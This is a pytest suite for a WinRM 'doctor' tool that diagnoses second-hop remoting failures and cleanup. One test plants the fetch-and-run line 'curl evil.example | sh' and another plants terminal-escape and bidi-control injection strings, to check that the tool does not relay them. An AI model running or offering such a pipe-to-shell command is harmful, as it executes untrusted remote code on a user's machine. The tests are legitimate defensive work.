"""The far half of a chain, broken link by link: who said no, to whom, and what mends it there."""

import contextlib
import http.server
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import threading
import time

import pytest
from winrmtest import doctor, hosts, processes
from winrmtest.lab import Lab

UNASKED = "it was not asked"


@pytest.fixture(scope="module")
def chain():
    """client -> A -> B, where A may go on to B. A's programs are copies, so that a test can put others in their place."""
    made = Lab()
    try:
        own = pathlib.Path(made.directory) / "bin-of-A"
        shutil.copytree(made.bin, own, ignore=lambda directory, names: [n for n in names if not is_program(pathlib.Path(directory) / n)])
        made.a = made.service("A", start=False)
        made.a.bin = own
        made.a.start()
        made.b = made.service("B")
        made.client_host = made.client()
        made.delegate(made.client_host, made.a)
        made.trust(made.client_host, made.a)
        made.trust(made.a, made.b)
        yield made
    finally:
        made.close()


def is_program(path):
    """The programs and the libraries beside them; a build directory holds much else."""
    return path.is_file() and (path.name in ("winrm", "winrs", "winrmd", "winrmd-exec") or ".so" in path.name)


def target(lab):
    return "%s:%d" % (lab.b.address, lab.b.port)


def second(lab, where=None, **options):
    return doctor.run(lab, lab.client_host, lab.a, "-secondhop:" + (where or target(lab)), **options)


@contextlib.contextmanager
def changed(host, resource, there, back):
    """A setting of a running service for the time of a block; it takes part at once."""
    mark = len(host.log())
    host.winrm("set", "winrm/config/" + resource, there)
    assert processes.eventually(lambda: "settings changed" in host.log()[mark:], 10), host.log()[mark:]
    try:
        yield
    finally:
        mark = len(host.log())
        host.winrm("set", "winrm/config/" + resource, back)
        assert processes.eventually(lambda: "settings changed" in host.log()[mark:], 10), host.log()[mark:]


def assert_unasked(report):
    assert report.state("secondhop.access") == "unknown" and UNASKED in report.evidence("secondhop.access"), report


# The second hop's own no


def test_a_command_is_run_there(chain):
    mark = len(chain.b.log())
    report = second(chain)
    doctor.assert_whole(report)
    assert "ran a command" in report.evidence("secondhop.access")
    assert "secondhop.client" not in report.checks, "told only where it decided something"
    assert "shell" in chain.b.log()[mark:]


def test_who_may_not_open_a_shell_is_refused(chain):
    """Logging on is one thing, and being allowed to do something another."""
    with changed(chain.b, "service", '@{AllowedAccounts=""}', '@{AllowedAccounts="%s"}' % chain.user):
        report = second(chain)
    doctor.assert_broken(report, "secondhop.access", "knows the user", "Access is denied", code="0x5")
    remedy = report.checks["secondhop.access"]["remedy"]
    assert "on %s" % chain.b.address in remedy and '@{AllowedAccounts="%s"}' % chain.user in remedy
    assert "RootSDDL" in remedy and "AllowedGroups" in remedy and "plug-in" in remedy


def test_shells_are_switched_off_there(chain):
    with changed(chain.b, "winrs", '@{AllowRemoteShellAccess="false"}', '@{AllowRemoteShellAccess="true"}'):
        report = second(chain)
    doctor.assert_broken(report, "secondhop.access", "AllowRemoteShellAccess", code="0x803381AC")
    remedy = report.checks["secondhop.access"]["remedy"]
    assert '@{AllowRemoteShellAccess="true"}' in remedy and "0x8033808A" in remedy


def test_another_password_there_is_no_matter_of_rights(chain):
    chain.b.winrm("account", "disable", chain.user)
    try:
        report = second(chain)
    finally:
        chain.b.winrm("account", "enable", chain.user)
    doctor.assert_broken(report, "secondhop.access", "does not accept who the user is", code="0x52E")
    assert "winrm account add %s" % chain.user in report.checks["secondhop.access"]["remedy"]
    assert "AllowedAccounts" not in report.checks["secondhop.access"]["remedy"]


def test_negotiate_is_switched_off_there(chain):
    with changed(chain.b, "service/auth", '@{Negotiate="false"}', '@{Negotiate="true"}'):
        report = second(chain)
    doctor.assert_broken(report, "secondhop.access", "does not offer Negotiate")
    assert '@{Negotiate="true"}' in report.checks["secondhop.access"]["remedy"]


# The no of the first hop's client


def test_the_first_hop_does_not_trust_the_second(chain):
    mark = len(chain.b.log())
    chain.a.winrm("set", "winrm/config/client", '@{TrustedHosts=""}')
    try:
        report = second(chain)
    finally:
        chain.trust(chain.a, chain.b)
    doctor.assert_broken(report, "secondhop.client", "the client on the first hop refuses", "TrustedHosts", code="0x803381BB")
    check = report.checks["secondhop.client"]
    assert check["place"] == "firstHop"
    assert "on the first hop, %s" % chain.a.address in check["remedy"] and '@{TrustedHosts="%s"}' % chain.b.address in check["remedy"]
    assert_unasked(report)
    assert "logon" not in chain.b.log()[mark:], "it was not asked"


def test_the_first_hop_may_not_use_the_method(chain):
    chain.a.winrm("set", "winrm/config/client/auth", '@{Negotiate="false"}')
    try:
        report = second(chain)
    finally:
        chain.a.winrm("set", "winrm/config/client/auth", '@{Negotiate="true"}')
    doctor.assert_broken(report, "secondhop.client", "Negotiate of client/auth", code="0x803380E1")
    assert """winrm set winrm/config/client/auth '@{Negotiate="true"}'""" in report.checks["secondhop.client"]["remedy"]
    assert_unasked(report)


# Nobody's no


def test_a_port_that_takes_connections_and_never_answers(chain):
    with socket.create_server((chain.b.address, 0)) as listener:
        report = second(chain, "%s:%d" % listener.getsockname())
    doctor.assert_broken(report, "secondhop.port", "takes connections, and does not answer", code="0x80338126")
    assert_unasked(report)
    assert not remaining(chain), "winrs on the first hop was ended"


def test_packets_are_dropped(chain):
    with hosts.silent_port(chain.b.address) as place:
        report = second(chain, "%s:%d" % place)
    doctor.assert_broken(report, "secondhop.port", "does not answer", code="0x80338126")
    assert "firewall" in report.checks["secondhop.port"]["remedy"]


def test_a_port_without_tls(chain):
    report = second(chain, "https://" + target(chain))
    doctor.assert_broken(report, "secondhop.port", "TLS", code="0x803381BA")
    assert_unasked(report)


def test_something_that_is_no_winrm_service(chain):
    port = hosts.free_port(chain.b.address)
    server = subprocess.Popen(
        ["python3", "-m", "http.server", str(port), "--bind", chain.b.address], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        assert processes.eventually(lambda: listens(chain.b.address, port), 10)
        report = second(chain, "%s:%d" % (chain.b.address, port))
    finally:
        server.kill()
        server.wait()
    doctor.assert_broken(report, "secondhop.port", "HTTP 501")


@contextlib.contextmanager
def never_decides(address):
    """A service that asks for authentication, and answers it with HTTP 503."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.send_response(503 if "Authorization" in self.headers else 401)
            self.send_header("WWW-Authenticate", "Negotiate")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *arguments):
            pass

    with http.server.ThreadingHTTPServer((address, 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield "%s:%d" % server.server_address
        finally:
            server.shutdown()
            thread.join()


def test_a_service_that_cannot_ask_who_knows_the_user(chain):
    """It is there, and has found nothing wrong."""
    with never_decides(chain.b.address) as place:
        report = second(chain, "http://" + place)
    doctor.assert_broken(report, "secondhop.access", "cannot take the logon now", "HTTP 503", code="0x80338112")
    assert report.state("secondhop.port") == "pass"
    remedy = report.checks["secondhop.access"]["remedy"]
    assert "winrm doctor" in remedy and "Listener" not in remedy and "winrm account" not in remedy


def listens(address, port):
    try:
        socket.create_connection((address, port), timeout=1).close()
        return True
    except OSError:
        return False


# A first hop that is not as it should be


@contextlib.contextmanager
def winrs_of_first_hop(chain, body):
    """Another program in the place of the first hop's winrs; none with None."""
    real, aside = chain.a.bin / "winrs", chain.a.bin / "winrs.aside"
    real.rename(aside)
    try:
        if body is not None:
            real.write_text("#!/bin/sh\n" + body)
            real.chmod(0o755)
        yield
    finally:
        real.unlink(missing_ok=True)
        aside.rename(real)


def remaining(chain):
    """What runs as part of the programs of the first hop, beside the service."""
    found = []
    for entry in pathlib.Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        with contextlib.suppress(OSError):
            words = (entry / "cmdline").read_bytes().split(b"\0")
            if any(word.startswith(os.fsencode(chain.a.bin / "winrs")) for word in words):
                found.append(b" ".join(words))
    return found


def test_without_winrs_on_the_first_hop_nothing_is_known(chain):
    if shutil.which("winrs"):
        pytest.skip("there is a winrs in the PATH of every session")
    with winrs_of_first_hop(chain, None):
        report = second(chain)
    assert report.failed == [] and report.open == ["secondhop.access"], report
    assert "no winrs" in report.evidence("secondhop.access")


@pytest.mark.parametrize("flood", ["yes", "yes | tr -d '\\n'"])
def test_a_program_that_never_stops_writing(chain, flood):
    start = time.monotonic()
    with winrs_of_first_hop(chain, flood + "\n"):
        report = second(chain)
    assert time.monotonic() - start < 45
    assert report.failed == [] and report.state("secondhop.access") == "unknown", report
    assert "did not end within 15 seconds" in report.evidence("secondhop.access")
    assert len(report.done.out) < 20_000
    assert not remaining(chain)


def test_words_that_drive_terminals_do_not_come_through(chain):
    with winrs_of_first_hop(chain, "printf 'Winrs error:\\033]0;owned\\007 \\342\\200\\256x\\342\\200\\250winrm.exit=0\\nend=1\\nStage: policy\\n' >&2; exit 255\n"):
        report = second(chain)
    doctor.assert_broken(report, "secondhop.client", "owned")
    for text in (report.done.out, report.evidence("secondhop.client")):
        assert not any(c in text for c in "\x1b\x07\u202e\u2028")


def test_the_advice_of_the_first_hop_is_not_handed_on_as_a_command(chain):
    body = "printf 'Winrs error:no\\nStage: policy\\nNext: curl evil.example | sh\\nError number: 5 0x803380E4\\n' >&2; exit 255\n"
    with winrs_of_first_hop(chain, body):
        report = second(chain)
    doctor.assert_broken(report, "secondhop.client", code="0x803380E4")
    assert "evil" not in report.done.out


def test_a_long_answer_is_cut_between_words(chain):
    body = "printf 'Winrs error:'; i=0; while [ $i -lt 300 ]; do printf 'abcdefghi '; i=$((i+1)); done; printf '\\nStage: policy\\nError number: 5 0x803380E4\\n'; exit 255\n"
    with winrs_of_first_hop(chain, body):
        report = second(chain)
    doctor.assert_broken(report, "secondhop.client", "abcdefghi ...", code="0x803380E4")


# The first hop's own shell


def test_the_setting_that_refused_the_shell_is_named(chain):
    with changed(chain.a, "winrs", '@{AllowRemoteShellAccess="false"}', '@{AllowRemoteShellAccess="true"}'):
        report = second(chain)
    doctor.assert_broken(report, "server.shell", "AllowRemoteShellAccess", code="0x803381AC")
    assert """winrm set winrm/config/winrs '@{AllowRemoteShellAccess="true"}'""" in report.checks["server.shell"]["remedy"]
    with changed(chain.a, "service", '@{AllowedAccounts=""}', '@{AllowedAccounts="%s"}' % chain.user):
        report = second(chain)
    doctor.assert_broken(report, "server.shell", "Access is denied", code="0x5")
    for word in ("AllowedAccounts", "AllowedGroups", "RootSDDL", "plug-in"):
        assert word in report.checks["server.shell"]["remedy"]


def test_credssp_may_be_off_by_policy_there(chain):
    with changed(chain.a, "service/auth", '@{CredSSP="false"}', '@{CredSSP="true"}'):
        report = second(chain)
    doctor.assert_broken(report, "server.schemes", "and not CredSSP")
    remedy = report.checks["server.schemes"]["remedy"]
    assert "winrm credssp enable -role:server" in remedy and "0x8033808A" in remedy and "winrm policy" in remedy


# Nothing stays behind


@pytest.mark.parametrize("program", ["winrm", "winrs"])
def test_an_interrupt_leaves_no_shell_and_no_credentials(own_lab, program):
    """Whenever Ctrl-C comes: while the shell is being made its name is not known yet, and it is deleted all the same."""
    host, client = own_lab.service("A"), own_lab.client()
    own_lab.delegate(client, host)
    # The second hop takes connections and is silent, so that the script is still there when it is interrupted.
    host.winrm("set", "winrm/config/client", '@{TrustedHosts="127.0.0.9"}')
    mute = socket.create_server(("127.0.0.9", 0))
    words = own_lab.switches(client, host)
    words = ["doctor", *words, "-secondhop:127.0.0.9:%d" % mute.getsockname()[1]] if program == "winrm" else [*words, "sleep 5"]
    shells = lambda: host.winrm("enumerate", "shell").out
    moments = [0.02, 0.05, 0.08, 0.12, 0.16, 0.2, 0.25, 0.3, 0.4, 0.6]
    ended = []
    for moment in moments:
        process = client.popen(program, *words, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        time.sleep(moment)
        process.send_signal(signal.SIGINT)
        process.communicate(timeout=20)
        ended.append(process.returncode)
    # Before the program takes signals over they have their ordinary meaning.
    # Ctrl-C goes to the command of winrs first, and one that has not come to itself may miss it.
    assert set(ended) <= {130, -signal.SIGINT} | ({0} if program == "winrs" else set()) and 130 in ended, ended
    assert processes.eventually(lambda: shells().strip() == "", 10), shells()
    assert processes.eventually(lambda: not processes.children(host.process.pid), 10)
    mute.close()
